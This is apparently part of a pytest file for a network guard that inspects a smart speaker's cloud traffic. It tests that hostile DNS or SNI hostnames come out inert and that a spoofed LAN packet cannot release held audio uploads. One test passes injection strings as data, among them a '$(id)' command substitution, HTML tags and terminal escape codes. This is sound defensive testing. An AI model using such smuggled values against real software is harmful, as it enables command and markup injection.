    assert host is None or (isinstance(host, str) and INERT.fullmatch(host)), repr(host)


def test_hostile_names_are_inert_in_upload_and_flow_summaries() -> None:
    config = replace(GuardConfig(), devices=(DeviceConfig(name="echo", address=ECHO),))
    eng = Engine(config, RULES)
    held = []
    for index, (ts, frame) in enumerate(hostile_capture(HOSTILE_NAMES)):
        pkt = parse_frame(frame, 1)
        assert isinstance(pkt, Packet)
        eng.receive(pkt, ts, index)
        held += [a.upload for a in eng.take_actions() if isinstance(a, UploadHeld)]
    assert len(held) == len(HOSTILE_NAMES)  # every flow got as far as an upload
    named = 0
    for summary in [*held, *(u.summary() for u in eng.uploads.values()),
                    *(f.summary() for f in eng.iter_flows())]:
        _assert_inert_host(summary["host"])
        named += summary["host"] is not None
    assert named >= 2 * len(HOSTILE_NAMES)  # the held notices and the flows all carry one
    assert any(u["host"] == "bob-dispatch-prod-na.amazon.com" for u in held)  # case and dot


def test_hostile_names_are_inert_in_the_analyze_table_and_json(tmp_path: Path) -> None:
    path = tmp_path / "hostile.pcap"
    write_pcap(str(path), hostile_capture(HOSTILE_NAMES))
    result = analyze_capture(path, devices=[ECHO])
    assert len(result["uploads"]) >= len(HOSTILE_NAMES)
    for row in result["uploads"] + result["flows"] + result["releases"]:
        _assert_inert_host(row["host"])
    table = format_table(result)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f<>;$`|&]", table), table
    assert "bob-dispatch-prod-na.amazon.com" in table


def test_names_from_the_engine_api_are_kept_inert_whatever_the_caller_passes() -> None:
    config = replace(GuardConfig(), devices=(DeviceConfig(name="echo", address=ECHO),))
    eng = Engine(config, RULES)
    names = ["<b>\x1b[31m;$(id)", "x" * 1000, "\u0130.example", "ＡＢＣ.example", "a\u0000b", ""]
    for i, name in enumerate(names):
        remote = f"198.19.2.{i + 1}"
        eng.receive(Packet(4, "198.18.10.1", ECHO, UDP, 53, 33000, 60, 88, hint=Hint.DNS,
                           dns=(DnsAnswer(name, remote, 300),)), 1.0)
        eng.receive(Packet(4, ECHO, remote, TCP, 40000 + i, 443, 0, 40, flags=SYN), 1.1)
    for flow in eng.iter_flows():
        _assert_inert_host(flow.summary()["host"])


def test_host_length_cap_holds_for_names_that_grow_when_lowercased() -> None:
    config = replace(GuardConfig(), devices=(DeviceConfig(name="echo", address=ECHO),))
    eng = Engine(config, RULES)
    eng.receive(Packet(4, "198.18.10.1", ECHO, UDP, 53, 33000, 60, 88, hint=Hint.DNS,
                       dns=(DnsAnswer("\u0130" * 253, CLOUD, 300),)), 1.0)
    eng.receive(Packet(4, ECHO, CLOUD, TCP, 40000, 443, 0, 40, flags=SYN), 1.1)
    for flow in eng.iter_flows():
        _assert_inert_host(flow.summary()["host"])


def test_a_voice_sni_on_a_flow_named_by_dns_as_telemetry_is_still_inspected() -> None:
    config = replace(GuardConfig(), devices=(DeviceConfig(name="echo", address=ECHO),))
    eng = Engine(config, RULES)
    eng.receive(Packet(4, "198.18.10.1", ECHO, UDP, 53, 33000, 60, 88, hint=Hint.DNS,
                       dns=(DnsAnswer("device-metrics-us.amazon.com", CLOUD, 300),)), 0.5)
    eng.receive(Packet(4, ECHO, CLOUD, TCP, 40000, 443, 0, 40, flags=SYN, seq=999), 1.0)
    hello = client_hello(b"bob-dispatch-prod-na.amazon.com")
    eng.receive(Packet(4, ECHO, CLOUD, TCP, 40000, 443, len(hello), len(hello) + 40, flags=ACK,
                       seq=1000, hint=Hint.TLS_HELLO, payload=hello), 1.1)
    seq = 1000 + len(hello)
    verdicts = []
    for k in range(12):
        verdicts.append(eng.receive(Packet(4, ECHO, CLOUD, TCP, 40000, 443, 1460, 1500,
                                           flags=ACK | PSH, seq=seq), 2.0 + 0.001 * k, k))
        seq += 1460
    actions = eng.take_actions()
    assert not any(isinstance(a, MarkFlow) and a.verdict == "allow" for a in actions)
    assert Verdict.HOLD in verdicts


# ---------------------------------------------------------------------------------------------
# A LAN spoofer with the speaker's address


ECHO_MAC = "68:db:f5:90:19:64"


def _segment(src_mac: str, seq: int, size: int) -> Packet:
    return Packet(4, ECHO, CLOUD, TCP, 40000, 443, size, size + 40, src_mac=src_mac,
                  flags=ACK | PSH, seq=seq)


def test_a_spoofed_end_of_message_record_from_another_mac_releases_nothing() -> None:
    """A tiny record ends a message (the detector's rule), so a LAN host that could inject one
    into the speaker's connection could release a held burst. A speaker configured by MAC is
    known by its MAC: the spoofer's packet is somebody else's and releases nothing."""
    config = replace(GuardConfig(), devices=(DeviceConfig(name="echo", mac=ECHO_MAC),))
    eng = Engine(config, RULES)
    seq = 1000
    for k in range(5):
        assert eng.receive(_segment(ECHO_MAC, seq, 1460), 100.0 + 0.001 * k, k) is Verdict.HOLD
        seq += 1460
    eng.take_actions()
    assert eng.receive(_segment("02:00:00:00:00:66", seq, 30), 100.01, "spoof") is Verdict.ACCEPT
    assert eng.take_actions() == [] and eng.held_packets == 5
    assert all(f.key.device_port == 40000 for f in eng.iter_flows())
